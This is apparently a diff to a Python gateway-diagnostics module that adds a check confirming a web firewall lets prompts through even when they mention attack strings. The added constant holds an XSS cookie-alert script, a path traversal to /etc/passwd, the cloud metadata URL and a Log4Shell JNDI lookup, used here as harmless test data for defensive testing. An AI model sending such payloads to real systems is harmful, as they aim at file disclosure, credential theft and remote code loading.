@@ -11,6 +11,11 @@ from edgeway.doctor.findings import Finding, judged
 WRONG_KEY: Final = "ew-doctor-a-key-that-nobody-has"
 MODELS: Final = "/v1/models?limit=1"
 HELLO: Final = {"max_tokens": 16, "messages": [{"role": "user", "content": "Hello"}]}
+ALARMING: Final = (
+    "<script>alert(document.cookie)</script> ../../../../etc/passwd http://169.254.169.254/latest/meta-data/ "
+    "${jndi:ldap://example.com/a}"
+)
+"""What firewalls look for, and what anybody may ask a model about."""
 GATEWAY_RESPONSES: Final = "GatewayResponses in template.yaml"
 
 
@@ -92,6 +97,15 @@ def knows_no_other_route(deployment: Deployment) -> list[Finding]:
         faults = shape_faults(answer, 404, "not_found_error")
         findings.append(judged(f"an unknown route with {name} is a 404", faults, answer.summary(), advice))
     return findings
+
+
+def takes_prompts_as_they_are(deployment: Deployment) -> list[Finding]:
+    """A firewall may take for an attack what a prompt only talks about. The function itself refuses it."""
+    body = {"model": "gpt-5", **HELLO, "max_tokens": -1, "system": ALARMING}
+    answer = deployment.ask("POST", "/v1/messages", body)
+    faults = shape_faults(answer, 400, "invalid_request_error")
+    advice = "A firewall refuses prompts: let its rules that look into bodies count, as WebAcl in template.yaml does."
+    return [judged("a prompt that holds markup and paths arrives", faults, answer.summary(), advice)]
 
 
 def names_each_request(deployment: Deployment) -> list[Finding]:
